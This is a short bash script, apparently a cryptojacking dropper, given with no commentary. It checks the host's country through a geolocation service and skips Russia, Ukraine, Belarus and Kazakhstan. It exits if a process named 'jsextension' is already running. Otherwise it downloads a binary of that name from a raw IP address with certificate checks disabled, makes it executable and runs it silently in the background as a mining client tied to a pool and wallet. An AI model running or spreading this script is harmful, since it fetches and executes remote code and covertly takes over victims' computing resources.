#!/bin/bash
IP=$(curl -k https://geo.example.net/json/ | grep -o '"countryCode":"[A-Z]*"' | cut -d'"' -f4)
if [[ "$IP" != "RU" && "$IP" != "UA" && "$IP" != "BY" && "$IP" != "KZ" ]]; then
  if ps -eaf | grep -v grep | grep -q jsextension; then
    exit 0
  fi
  curl -k http://198.51.100.54/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget --no-check-certificate http://198.51.100.54/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o stratum+tcp://pool.example.net:3333 -u 4BgQJ9Cxk1NZWzf6Ncgm3oRBnVoUBBG489Zxe5rmRspy7KEkFosTy6rJESJNt3Dny1yT4zRwY92GUpw8f18qeDzwDN1z69b --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
fi
